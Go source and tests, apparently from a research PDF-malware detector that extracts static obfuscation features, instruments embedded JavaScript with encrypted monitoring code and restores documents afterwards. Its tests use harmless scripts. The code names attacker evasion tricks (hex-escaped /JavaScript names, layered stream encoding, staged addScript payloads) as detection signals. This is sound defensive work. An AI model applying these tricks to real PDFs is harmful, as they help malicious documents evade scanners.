	if len(extracted) != 1 {
		t.Fatalf("instrumented host lost its attachment")
	}
	innerDoc, err := pdf.Parse(extracted[0].Raw, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(innerDoc)
	if err != nil {
		t.Fatal(err)
	}
	if len(chains.Chains) != 1 {
		t.Fatal("attachment chain lost")
	}
	if chains.Chains[0].Source == "attachmentRan = 5;" {
		t.Error("attachment script not instrumented")
	}
}

func TestScriptlessHostScriptlessAttachment(t *testing.T) {
	// A plain text host with a scriptless PDF attachment stays out of
	// scope.
	plainInner := func() []byte {
		d := pdf.NewDocument()
		page := d.Add(pdf.Dict{"Type": pdf.Name("Page")})
		pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}})
		d.Trailer["Root"] = d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages})
		raw, err := pdf.Write(d, pdf.WriteOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return raw
	}()
	host := buildHostWithEmbedded(t, plainInner)
	reg := NewRegistry("embdetector0002")
	ins := New(reg, Options{Seed: 32})
	_, err := ins.InstrumentBytes("host2.pdf", host)
	if !errors.Is(err, ErrNoJavaScript) {
		t.Errorf("want ErrNoJavaScript, got %v", err)
	}
}
