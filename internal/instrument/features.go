// Package instrument implements the front-end of the system: static
// analysis of PDF documents (the paper's five novel static features F1-F5),
// reconstruction of Javascript chains, and static document instrumentation —
// wrapping every triggered script in encrypted, randomized context
// monitoring code that reports Javascript context transitions to the
// runtime detector over SOAP.
package instrument

import (
	"fmt"

	"pdfshield/internal/pdf"
)

// Thresholds from Table VII of the paper.
const (
	// RatioThreshold is the F1 cutoff: JS-chain object ratio >= 0.2.
	RatioThreshold = 0.2
	// EncodingLevelThreshold is the F5 cutoff: >= 2 levels of encoding.
	EncodingLevelThreshold = 2
)

// StaticFeatures holds the five static features (F1-F5) extracted during
// parsing and decompression.
type StaticFeatures struct {
	// Ratio is F1: PDF objects on Javascript chains / total objects.
	Ratio float64
	// HeaderObfuscated is F2: header missing, displaced, or invalid.
	HeaderObfuscated bool
	// HexCodeCount is F3: names written with #xx escapes (the
	// /JavaScr#69pt trick). The binary feature is HexCodeCount > 0.
	HexCodeCount int
	// EmptyObjects is F4: count of empty indirect objects.
	EmptyObjects int
	// EncodingLevels is F5: the deepest filter chain on a Javascript chain.
	EncodingLevels int
	// HasJavaScript reports whether any Javascript chain exists; documents
	// without Javascript are out of the detector's scope.
	HasJavaScript bool
}

// Vector returns the normalized binary feature vector [F1..F5] following
// the Table VII rules.
func (f StaticFeatures) Vector() [5]int {
	var v [5]int
	if f.Ratio >= RatioThreshold {
		v[0] = 1
	}
	if f.HeaderObfuscated {
		v[1] = 1
	}
	if f.HexCodeCount > 0 {
		v[2] = 1
	}
	if f.EmptyObjects >= 1 {
		v[3] = 1
	}
	if f.EncodingLevels >= EncodingLevelThreshold {
		v[4] = 1
	}
	return v
}

// Sum returns the number of positive static features.
func (f StaticFeatures) Sum() int {
	total := 0
	for _, b := range f.Vector() {
		total += b
	}
	return total
}

// String renders the features compactly for reports.
func (f StaticFeatures) String() string {
	return fmt.Sprintf("ratio=%.3f headerObf=%v hexNames=%d emptyObjs=%d encLevels=%d js=%v",
		f.Ratio, f.HeaderObfuscated, f.HexCodeCount, f.EmptyObjects, f.EncodingLevels, f.HasJavaScript)
}

// ExtractFeatures computes the static features of a parsed document given
// its reconstructed chain set.
func ExtractFeatures(doc *pdf.Document, chains pdf.ChainSet) StaticFeatures {
	return StaticFeatures{
		Ratio:            chains.Ratio(),
		HeaderObfuscated: doc.Header.Obfuscated(),
		HexCodeCount:     doc.HexNameCount,
		EmptyObjects:     doc.CountEmptyObjects(),
		EncodingLevels:   chains.MaxEncodingLevels(),
		HasJavaScript:    chains.HasJavaScript(),
	}
}
