package instrument

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"pdfshield/internal/js"
	"pdfshield/internal/obs"
	"pdfshield/internal/pdf"
)

// DefaultEndpoint is the SOAP URL compiled into monitoring code when the
// caller does not override it; the reader's SOAP bridge routes requests for
// it to the live detector.
const DefaultEndpoint = "http://127.0.0.1:8217/ctx"

// Options configures an Instrumenter.
type Options struct {
	// Endpoint is the detector SOAP URL embedded in monitoring code.
	Endpoint string
	// Seed seeds the randomization RNG; 0 derives a seed from crypto/rand
	// via the registry's detector id, keeping runs reproducible only when
	// explicitly requested.
	Seed int64
	// Obs, when non-nil, receives the front-end phase latency histograms
	// (parse/analyze/instrument) and instrumentation counters. Embedded
	// documents' phases fold into their host's top-level observation, so
	// one submission is one observation per phase.
	Obs *obs.Registry
	// Units is the compiled-unit cache to precompile monitoring code into
	// (nil = js.DefaultUnits). Instrumentation-time precompilation means
	// the reader's first open of a freshly instrumented document finds its
	// prologue/epilogue already compiled and pays only a cache hit.
	Units *js.UnitCache
}

// ErrNoJavaScript is returned when a document has nothing to instrument.
// Callers typically treat this as "benign by scope" rather than a failure.
var ErrNoJavaScript = errors.New("document contains no javascript")

// Instrumenter is the front-end component: it statically analyzes
// documents, extracts features, and inserts context monitoring code.
type Instrumenter struct {
	registry *Registry
	endpoint string
	rng      *rand.Rand
	obs      *obs.Registry
	units    *js.UnitCache
}

// New returns an Instrumenter bound to a key registry.
func New(registry *Registry, opts Options) *Instrumenter {
	endpoint := opts.Endpoint
	if endpoint == "" {
		endpoint = DefaultEndpoint
	}
	seed := opts.Seed
	if seed == 0 {
		seed = time.Now().UnixNano()
	}
	units := opts.Units
	if units == nil {
		units = js.DefaultUnits
	}
	return &Instrumenter{
		registry: registry,
		endpoint: endpoint,
		obs:      opts.Obs,
		units:    units,
		//nolint:gosec // randomization of code layout, not cryptography; the
		// protection key material comes from crypto/rand in key.go.
		// lockedSource makes the shared Instrumenter safe for concurrent
		// InstrumentBytes calls (batch workers instrument in parallel).
		rng: rand.New(&lockedSource{src: rand.NewSource(seed)}),
	}
}

// lockedSource is a mutex-guarded rand.Source: *rand.Rand itself is not
// goroutine-safe, and the instrumenter draws from one shared RNG for code
// layout randomization.
type lockedSource struct {
	mu  sync.Mutex
	src rand.Source
}

func (s *lockedSource) Int63() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.src.Int63()
}

func (s *lockedSource) Seed(seed int64) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.src.Seed(seed)
}

// PhaseTiming records per-phase durations (Table X's columns).
type PhaseTiming struct {
	ParseDecompress   time.Duration
	FeatureExtraction time.Duration
	Instrumentation   time.Duration
}

// Total sums the phases.
func (t PhaseTiming) Total() time.Duration {
	return t.ParseDecompress + t.FeatureExtraction + t.Instrumentation
}

// SpecEntry records one script replacement so it can be undone.
type SpecEntry struct {
	Location pdf.ScriptLocation `json:"location"`
	// Original is the pre-instrumentation script source.
	Original string `json:"original"`
	// Filters is the original stream filter chain (nil for string values).
	Filters []pdf.Name `json:"filters,omitempty"`
	// Cleared reports this entry was a sequential (/Next) script whose body
	// was folded into the first script of the sequence.
	Cleared bool `json:"cleared"`
}

// DeinstrumentSpec is exported alongside an instrumented document; applying
// it restores the original scripts (§III-F).
type DeinstrumentSpec struct {
	DocID    string      `json:"doc_id"`
	InstrKey string      `json:"instr_key"`
	Entries  []SpecEntry `json:"entries"`
}

// Result is the outcome of instrumenting one document.
type Result struct {
	DocID string
	// ContentHash is the SHA-256 of the pre-instrumentation bytes — the
	// document's registry identity and the front-end cache key. Computed
	// once per submission and threaded through (registry record, cache).
	ContentHash string
	// Key is the full protection key for this document.
	Key Key
	// Features are the five static features extracted during analysis.
	Features StaticFeatures
	// Chains is the reconstructed chain set.
	Chains pdf.ChainSet
	// Output is the serialized instrumented document.
	Output []byte
	// Doc is the instrumented in-memory document (shares no state with
	// Output; reparse Output for byte-exact work).
	Doc *pdf.Document
	// Spec allows later de-instrumentation.
	Spec DeinstrumentSpec
	// ScriptsInstrumented counts monitoring-code insertions (sequential
	// chains count once).
	ScriptsInstrumented int
	// StagedRewrites counts nested code-string parameters wrapped for the
	// staged/delayed attack defenses.
	StagedRewrites int
	// ObjectCount is the number of indirect objects parsed.
	ObjectCount int
	// Timing holds per-phase durations.
	Timing PhaseTiming
	// OwnerPasswordRemoved reports that view-only encryption was stripped.
	OwnerPasswordRemoved bool
	// Embedded holds the instrumentation results of embedded PDF
	// documents (§VI extension); each has its own protection key.
	Embedded []*Result
}

// ContentHash computes the registry identity of raw document bytes.
func ContentHash(raw []byte) string {
	sum := sha256.Sum256(raw)
	return hex.EncodeToString(sum[:])
}

// Analyze parses raw bytes and extracts static features without modifying
// the document. Used for feature studies (Figure 6, Table VI) and by
// baseline detectors. The parsed document is returned so callers can keep
// working on it (validation, embedded extraction) without re-parsing.
func Analyze(raw []byte) (StaticFeatures, pdf.ChainSet, *pdf.Document, error) {
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		return StaticFeatures{}, pdf.ChainSet{}, nil, err
	}
	feats, chains, err := AnalyzeDoc(doc)
	if err != nil {
		return StaticFeatures{}, pdf.ChainSet{}, nil, err
	}
	return feats, chains, doc, nil
}

// AnalyzeDoc extracts static features from an already-parsed document,
// letting callers that parsed once reuse the document instead of paying a
// second parse over the same bytes. Encrypted documents have their owner
// password removed in place, exactly as Analyze would.
func AnalyzeDoc(doc *pdf.Document) (StaticFeatures, pdf.ChainSet, error) {
	if doc.IsEncrypted() {
		if err := pdf.RemoveOwnerPassword(doc); err != nil {
			return StaticFeatures{}, pdf.ChainSet{}, err
		}
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		return StaticFeatures{}, pdf.ChainSet{}, err
	}
	return ExtractFeatures(doc, chains), chains, nil
}

// InstrumentBytes runs the complete front-end pipeline over raw document
// bytes: parse and decompress, extract static features, reconstruct
// Javascript chains, insert context monitoring code into every triggered
// chain, and recursively instrument embedded PDF documents. Documents with
// no Javascript anywhere return ErrNoJavaScript.
func (ins *Instrumenter) InstrumentBytes(docID string, raw []byte) (*Result, error) {
	return ins.InstrumentBytesWithHash(docID, raw, "")
}

// InstrumentBytesWithHash is InstrumentBytes for callers that already
// computed ContentHash(raw) — the front-end cache keys by it before
// calling in — so each submission is hashed exactly once.
func (ins *Instrumenter) InstrumentBytesWithHash(docID string, raw []byte, hash string) (*Result, error) {
	res, err := ins.instrumentBytesDepth(docID, raw, hash, 0)
	ins.observeFrontEnd(res, err)
	return res, err
}

// observeFrontEnd reports one top-level front-end pass into the obs
// registry: per-phase latency histograms plus instrumentation counters.
// Cached submissions never reach here (the cache short-circuits before
// the instrumenter), so histogram counts equal real front-end passes.
func (ins *Instrumenter) observeFrontEnd(res *Result, err error) {
	if ins.obs == nil || res == nil {
		return
	}
	t := res.Timing
	ins.obs.Observe(obs.PhaseSeries(obs.PhaseParse), t.ParseDecompress)
	ins.obs.Observe(obs.PhaseSeries(obs.PhaseAnalyze), t.FeatureExtraction)
	if t.Instrumentation > 0 {
		ins.obs.Observe(obs.PhaseSeries(obs.PhaseInstrument), t.Instrumentation)
	}
	if err == nil && res.ScriptsInstrumented > 0 {
		ins.obs.Inc(obs.MetricDocsInstrumented)
		ins.obs.CounterAdd(obs.MetricScripts, uint64(res.ScriptsInstrumented))
		ins.obs.CounterAdd(obs.MetricStagedRewrites, uint64(res.StagedRewrites))
	}
}

// instrumentBytesDepth is the recursive front-end worker. hash is the
// precomputed ContentHash of raw ("" = compute here; embedded recursion
// always computes, the bytes differ from the host's).
func (ins *Instrumenter) instrumentBytesDepth(docID string, raw []byte, hash string, depth int) (*Result, error) {
	if hash == "" {
		hash = ContentHash(raw)
	}
	if ins.registry.SeenHash(hash) {
		return nil, fmt.Errorf("%s: %w", docID, ErrDuplicate)
	}

	t0 := time.Now()
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		return nil, fmt.Errorf("parse %s: %w", docID, err)
	}
	removedPw := false
	if doc.IsEncrypted() {
		if err := pdf.RemoveOwnerPassword(doc); err != nil {
			return nil, fmt.Errorf("remove owner password %s: %w", docID, err)
		}
		removedPw = true
	}
	parseDur := time.Since(t0)

	embedded, err := ins.instrumentEmbedded(docID, doc, depth)
	if err != nil {
		return nil, err
	}

	t1 := time.Now()
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		return nil, fmt.Errorf("chains %s: %w", docID, err)
	}
	features := ExtractFeatures(doc, chains)
	featDur := time.Since(t1)

	if !chains.HasJavaScript() {
		res := &Result{
			DocID:       docID,
			ContentHash: hash,
			Features:    features,
			Chains:      chains,
			Output:      raw,
			Doc:         doc,
			ObjectCount: doc.Len(),
			Embedded:    embedded,
			Timing:      PhaseTiming{ParseDecompress: parseDur, FeatureExtraction: featDur},
		}
		if len(embedded) == 0 {
			return res, ErrNoJavaScript
		}
		// The host carries no script but its attachments do: emit the host
		// with instrumented attachments embedded.
		out, werr := pdf.Write(doc, pdf.WriteOptions{})
		if werr != nil {
			return nil, fmt.Errorf("write %s: %w", docID, werr)
		}
		res.Output = out
		return res, nil
	}

	t2 := time.Now()
	instrKey, err := NewInstrKey(nil)
	if err != nil {
		return nil, err
	}
	key := Key{DetectorID: ins.registry.DetectorID(), InstrKey: instrKey}
	builder := &monitorBuilder{rng: ins.rng, endpoint: ins.endpoint, detectorID: key.DetectorID}

	res := &Result{
		DocID:                docID,
		ContentHash:          hash,
		Key:                  key,
		Features:             features,
		Chains:               chains,
		Doc:                  doc,
		ObjectCount:          doc.Len(),
		OwnerPasswordRemoved: removedPw,
		Embedded:             embedded,
		Spec:                 DeinstrumentSpec{DocID: docID, InstrKey: instrKey},
	}

	// Holders that appear in another chain's /Next sequence are folded into
	// the head of the sequence and must not get their own monitor.
	sequential := make(map[int]bool)
	for _, c := range chains.Chains {
		for _, n := range c.NextNums {
			sequential[n] = true
		}
	}
	chainByHolder := make(map[int]*pdf.JSChain, len(chains.Chains))
	for i := range chains.Chains {
		chainByHolder[chains.Chains[i].Holder] = &chains.Chains[i]
	}

	seq := 0
	for i := range chains.Chains {
		chain := &chains.Chains[i]
		if !chain.Triggered || sequential[chain.Holder] {
			continue
		}
		seq++
		combined := chain.Source
		for _, nextNum := range chain.NextNums {
			if nc, ok := chainByHolder[nextNum]; ok && nc.Source != "" {
				combined += "\n;" + nc.Source
			}
		}
		rewritten, nStaged := ins.rewriteStaged(combined, 0, func(inner string) string {
			seq++
			m := builder.build(key, seq, inner)
			// Inner monitors reach the interpreter through eval at run
			// time; compile them now so every stage of a staged chain
			// opens warm.
			ins.units.Warm(m)
			return m
		})
		res.StagedRewrites += nStaged
		monitored := builder.build(key, seq, rewritten)
		// Precompile both what the reader's Run sees (the outer monitor)
		// and what its decryptor evals (the rewritten payload): the first
		// open of this document then hits the unit cache on every layer.
		ins.units.Warm(monitored)
		ins.units.Warm(rewritten)

		if err := ins.replaceScript(doc, chain, monitored, &res.Spec); err != nil {
			return nil, fmt.Errorf("instrument %s holder %d: %w", docID, chain.Holder, err)
		}
		// Blank the sequential scripts that were folded in.
		for _, nextNum := range chain.NextNums {
			nc, ok := chainByHolder[nextNum]
			if !ok {
				continue
			}
			if err := ins.replaceScript(doc, nc, "", &res.Spec); err != nil {
				return nil, fmt.Errorf("blank %s holder %d: %w", docID, nextNum, err)
			}
			res.Spec.Entries[len(res.Spec.Entries)-1].Cleared = true
		}
		res.ScriptsInstrumented++
	}

	if res.ScriptsInstrumented == 0 {
		// Chains exist but none are triggered; nothing runs, nothing to
		// monitor in the host itself.
		res.Timing = PhaseTiming{ParseDecompress: parseDur, FeatureExtraction: featDur, Instrumentation: time.Since(t2)}
		if len(embedded) == 0 {
			res.Output = raw
			return res, nil
		}
		out, werr := pdf.Write(doc, pdf.WriteOptions{})
		if werr != nil {
			return nil, fmt.Errorf("write %s: %w", docID, werr)
		}
		res.Output = out
		return res, nil
	}

	out, err := pdf.Write(doc, pdf.WriteOptions{})
	if err != nil {
		return nil, fmt.Errorf("write %s: %w", docID, err)
	}
	res.Output = out
	res.Timing = PhaseTiming{ParseDecompress: parseDur, FeatureExtraction: featDur, Instrumentation: time.Since(t2)}

	if err := ins.registry.Register(DocRecord{
		DocID:        docID,
		InstrKey:     instrKey,
		ContentHash:  hash,
		ScriptCount:  res.ScriptsInstrumented,
		StaticVector: features.Vector(),
	}); err != nil {
		return nil, err
	}
	return res, nil
}

// replaceScript rewrites the script bytes at a chain's location, recording
// the original in the spec.
func (ins *Instrumenter) replaceScript(doc *pdf.Document, chain *pdf.JSChain, newSource string, spec *DeinstrumentSpec) error {
	loc := chain.Location
	entry := SpecEntry{Location: loc, Original: chain.Source}

	if loc.DataNum >= 0 && loc.InStream {
		obj, ok := doc.Get(loc.DataNum)
		if !ok {
			return fmt.Errorf("data object %d: %w", loc.DataNum, pdf.ErrNotFound)
		}
		stream, ok := obj.Object.(*pdf.Stream)
		if !ok {
			return fmt.Errorf("data object %d is %s, want stream", loc.DataNum, obj.Object.Kind())
		}
		entry.Filters = stream.Filters()
		raw, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate}, []byte(newSource))
		if err != nil {
			return err
		}
		newDict := stream.Dict.Clone()
		newDict["Filter"] = filterObj
		doc.Put(pdf.IndirectObject{Num: loc.DataNum, Gen: obj.Gen, Object: &pdf.Stream{Dict: newDict, Raw: raw}})
		spec.Entries = append(spec.Entries, entry)
		return nil
	}

	// Script stored as a string: either directly in the holder dict or in a
	// referenced string object.
	newVal := pdf.String{Value: []byte(newSource)}
	if loc.DataNum >= 0 {
		obj, ok := doc.Get(loc.DataNum)
		if !ok {
			return fmt.Errorf("data object %d: %w", loc.DataNum, pdf.ErrNotFound)
		}
		doc.Put(pdf.IndirectObject{Num: loc.DataNum, Gen: obj.Gen, Object: newVal})
		spec.Entries = append(spec.Entries, entry)
		return nil
	}
	holder, ok := doc.Get(loc.HolderNum)
	if !ok {
		return fmt.Errorf("holder %d: %w", loc.HolderNum, pdf.ErrNotFound)
	}
	var dict pdf.Dict
	switch v := holder.Object.(type) {
	case pdf.Dict:
		dict = v
	case *pdf.Stream:
		dict = v.Dict
	default:
		return fmt.Errorf("holder %d is %s", loc.HolderNum, holder.Object.Kind())
	}
	dict[loc.Key] = newVal
	spec.Entries = append(spec.Entries, entry)
	return nil
}

// Restore rewrites an instrumented document back to its original scripts
// using the exported spec, without touching the registry. Callers that
// must keep the protection key alive a little longer (the pipeline, while
// concurrent opens of the same cached document are still in flight) call
// Restore now and Forget when the last user releases the key.
func (ins *Instrumenter) Restore(raw []byte, spec DeinstrumentSpec) ([]byte, error) {
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		return nil, fmt.Errorf("deinstrument parse: %w", err)
	}
	for _, entry := range spec.Entries {
		chain := &pdf.JSChain{Location: entry.Location, Source: entry.Original}
		restored := entry.Original
		if err := ins.replaceScript(doc, chain, restored, &DeinstrumentSpec{}); err != nil {
			return nil, fmt.Errorf("restore holder %d: %w", entry.Location.HolderNum, err)
		}
	}
	out, err := pdf.Write(doc, pdf.WriteOptions{})
	if err != nil {
		return nil, fmt.Errorf("deinstrument write: %w", err)
	}
	return out, nil
}

// Forget removes a document's registry record, completing a
// de-instrumentation started with Restore.
func (ins *Instrumenter) Forget(instrKey string) {
	ins.registry.Remove(instrKey)
}

// Deinstrument restores a document to its pre-instrumentation scripts using
// the exported spec and removes its registry entry. The paper runs this in
// the background once a document has been classified benign, so that known
// documents stop paying the monitoring cost.
func (ins *Instrumenter) Deinstrument(raw []byte, spec DeinstrumentSpec) ([]byte, error) {
	out, err := ins.Restore(raw, spec)
	if err != nil {
		return nil, err
	}
	ins.registry.Remove(spec.InstrKey)
	return out, nil
}
