package instrument

import (
	"errors"
	"strings"
	"testing"

	"pdfshield/internal/js"
	"pdfshield/internal/pdf"
)

func newTestInstrumenter(t *testing.T) (*Instrumenter, *Registry) {
	t.Helper()
	reg := NewRegistry("testdetector01")
	ins := New(reg, Options{Seed: 42})
	return ins, reg
}

// buildDocBytes builds a minimal triggered-JS document and serializes it.
func buildDocBytes(t *testing.T, script string) []byte {
	t.Helper()
	d := pdf.NewDocument()
	raw, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate}, []byte(script))
	if err != nil {
		t.Fatal(err)
	}
	jsData := d.Add(&pdf.Stream{Dict: pdf.Dict{"Filter": filterObj}, Raw: raw})
	action := d.Add(pdf.Dict{"Type": pdf.Name("Action"), "S": pdf.Name("JavaScript"), "JS": jsData})
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page")})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}, "Count": pdf.Integer(1)})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages, "OpenAction": action})
	d.Trailer["Root"] = catalog
	data, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// soapRecorder installs a SOAP host object into an interpreter and records
// Notify-like calls.
type soapRecord struct {
	Event string
	Key   string
	Seq   int
}

func installSOAP(it *js.Interp) *[]soapRecord {
	var records []soapRecord
	soap := js.NewHostObject("SOAP")
	soap.Set("request", js.ObjectValue(js.NewHostFunc("request", func(it *js.Interp, this js.Value, args []js.Value) (js.Value, error) {
		if len(args) == 0 || args[0].Object() == nil {
			return js.Undefined(), nil
		}
		req := args[0].Object()
		oreqV, _ := req.GetOwn("oRequest")
		oreq := oreqV.Object()
		if oreq == nil {
			return js.Undefined(), nil
		}
		ev, _ := oreq.GetOwn("Event")
		key, _ := oreq.GetOwn("Key")
		seq, _ := oreq.GetOwn("Seq")
		records = append(records, soapRecord{Event: ev.Str(), Key: key.Str(), Seq: int(seq.Num())})
		resp := js.NewObject()
		resp.Set("status", js.StringValue("ok"))
		return js.ObjectValue(resp), nil
	})))
	it.Global.Declare("SOAP", js.ObjectValue(soap))
	return &records
}

func extractScriptFromResult(t *testing.T, res *Result) string {
	t.Helper()
	doc, err := pdf.Parse(res.Output, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range chains.Chains {
		if c.Triggered && c.Source != "" {
			return c.Source
		}
	}
	t.Fatal("no triggered script in instrumented output")
	return ""
}

func TestInstrumentAndExecuteMonitoredScript(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	original := "var out = 6*7; probe(out);"
	raw := buildDocBytes(t, original)

	res, err := ins.InstrumentBytes("doc1", raw)
	if err != nil {
		t.Fatal(err)
	}
	if res.ScriptsInstrumented != 1 {
		t.Fatalf("ScriptsInstrumented = %d", res.ScriptsInstrumented)
	}
	monitored := extractScriptFromResult(t, res)
	if strings.Contains(monitored, "6*7") {
		t.Error("original code visible in monitored script (encryption missing)")
	}

	it := js.New()
	records := installSOAP(it)
	var probed float64
	it.Global.Declare("probe", js.ObjectValue(js.NewHostFunc("probe", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		probed = args[0].Num()
		return js.Undefined(), nil
	})))

	if _, err := it.Run(monitored); err != nil {
		t.Fatalf("monitored script failed: %v", err)
	}
	if probed != 42 {
		t.Errorf("original behaviour lost: probe=%v", probed)
	}
	if len(*records) != 2 {
		t.Fatalf("SOAP records = %d, want 2", len(*records))
	}
	if (*records)[0].Event != "enter" || (*records)[1].Event != "exit" {
		t.Errorf("events = %+v", *records)
	}
	wantKey := res.Key.String()
	if (*records)[0].Key != wantKey || (*records)[1].Key != wantKey {
		t.Errorf("keys = %+v, want %s", *records, wantKey)
	}
}

func TestMonitorExitRunsEvenWhenScriptThrows(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	raw := buildDocBytes(t, "throw 'exploit failed';")
	res, err := ins.InstrumentBytes("doc-throw", raw)
	if err != nil {
		t.Fatal(err)
	}
	monitored := extractScriptFromResult(t, res)
	it := js.New()
	records := installSOAP(it)
	_, runErr := it.Run(monitored)
	if runErr == nil {
		t.Error("script exception should propagate")
	}
	if len(*records) != 2 || (*records)[1].Event != "exit" {
		t.Errorf("exit not delivered on throw: %+v", *records)
	}
}

func TestInstrumentBothCiphersDecryptCorrectly(t *testing.T) {
	// Run many seeds so both cipher paths and decoy layouts execute.
	for seed := int64(1); seed <= 12; seed++ {
		reg := NewRegistry("d")
		ins := New(reg, Options{Seed: seed})
		raw := buildDocBytes(t, "result = 'abc'.toUpperCase();")
		res, err := ins.InstrumentBytes("doc", raw)
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		monitored := extractScriptFromResult(t, res)
		it := js.New()
		installSOAP(it)
		if _, err := it.Run(monitored); err != nil {
			t.Fatalf("seed %d: monitored run: %v", seed, err)
		}
		if v, _ := it.Global.Lookup("result"); v.Str() != "ABC" {
			t.Errorf("seed %d: result = %v", seed, v)
		}
	}
}

func TestInstrumentNonASCIIScript(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	raw := buildDocBytes(t, "var s = unescape('%u0c0c') + 'é世';\nresult = s.length;")
	res, err := ins.InstrumentBytes("doc-uni", raw)
	if err != nil {
		t.Fatal(err)
	}
	monitored := extractScriptFromResult(t, res)
	it := js.New()
	installSOAP(it)
	if _, err := it.Run(monitored); err != nil {
		t.Fatalf("monitored run: %v", err)
	}
	if v, _ := it.Global.Lookup("result"); v.Num() != 3 {
		t.Errorf("result = %v, want 3", v.Num())
	}
}

func TestDuplicateInstrumentationRejected(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	raw := buildDocBytes(t, "1;")
	if _, err := ins.InstrumentBytes("a", raw); err != nil {
		t.Fatal(err)
	}
	if _, err := ins.InstrumentBytes("b", raw); !errors.Is(err, ErrDuplicate) {
		t.Errorf("expected ErrDuplicate, got %v", err)
	}
}

func TestInstrumentNoJavaScript(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	d := pdf.NewDocument()
	page := d.Add(pdf.Dict{"Type": pdf.Name("Page")})
	pages := d.Add(pdf.Dict{"Type": pdf.Name("Pages"), "Kids": pdf.Array{page}})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "Pages": pages})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := ins.InstrumentBytes("plain", raw)
	if !errors.Is(err, ErrNoJavaScript) {
		t.Fatalf("expected ErrNoJavaScript, got %v", err)
	}
	if res.Features.HasJavaScript {
		t.Error("features claim javascript present")
	}
}

func TestSequentialScriptsGetOneMonitor(t *testing.T) {
	d := pdf.NewDocument()
	third := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": pdf.String{Value: []byte("order.push(3);")}})
	second := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": pdf.String{Value: []byte("order.push(2);")}, "Next": third})
	first := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": pdf.String{Value: []byte("order.push(1);")}, "Next": second})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": first})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	ins, _ := newTestInstrumenter(t)
	res, err := ins.InstrumentBytes("seqdoc", raw)
	if err != nil {
		t.Fatal(err)
	}
	if res.ScriptsInstrumented != 1 {
		t.Fatalf("sequential chain should use one monitor, got %d", res.ScriptsInstrumented)
	}

	// Execute the head script: all three bodies must run in order with a
	// single enter/exit pair.
	doc, err := pdf.Parse(res.Output, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		t.Fatal(err)
	}
	var head string
	for _, c := range chains.Chains {
		if c.Holder == first.Num {
			head = c.Source
		}
		if c.Holder == second.Num || c.Holder == third.Num {
			if c.Source != "" {
				t.Errorf("folded script %d not blanked: %q", c.Holder, c.Source)
			}
		}
	}
	it := js.New()
	records := installSOAP(it)
	if _, err := it.Run("var order = [];"); err != nil {
		t.Fatal(err)
	}
	if _, err := it.Run(head); err != nil {
		t.Fatalf("head script: %v", err)
	}
	joined, err := it.Run("order.join(',');")
	if err != nil {
		t.Fatal(err)
	}
	if joined.Str() != "1,2,3" {
		t.Errorf("order = %q, want 1,2,3", joined.Str())
	}
	if len(*records) != 2 {
		t.Errorf("SOAP records = %d, want 2 (single monitor)", len(*records))
	}
}

func TestStagedRewriteAddScript(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	src := `this.addScript("stage2", "dropped = 99;");`
	raw := buildDocBytes(t, src)
	res, err := ins.InstrumentBytes("staged", raw)
	if err != nil {
		t.Fatal(err)
	}
	if res.StagedRewrites != 1 {
		t.Fatalf("StagedRewrites = %d, want 1", res.StagedRewrites)
	}
	monitored := extractScriptFromResult(t, res)

	it := js.New()
	records := installSOAP(it)
	// this.addScript stores the script; execute it afterwards like the
	// reader would on the trigger event.
	var stored string
	doc := js.NewHostObject("Doc")
	doc.Set("addScript", js.ObjectValue(js.NewHostFunc("addScript", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		if len(args) > 1 {
			stored = args[1].Str()
		}
		return js.Undefined(), nil
	})))
	it.This = js.ObjectValue(doc)

	if _, err := it.Run(monitored); err != nil {
		t.Fatalf("outer run: %v", err)
	}
	if stored == "" {
		t.Fatal("addScript arg not captured")
	}
	if strings.Contains(stored, "dropped = 99") {
		t.Error("stage-2 code not wrapped (plaintext visible)")
	}
	if _, err := it.Run(stored); err != nil {
		t.Fatalf("stage-2 run: %v", err)
	}
	if v, _ := it.Global.Lookup("dropped"); v.Num() != 99 {
		t.Errorf("dropped = %v", v.Num())
	}
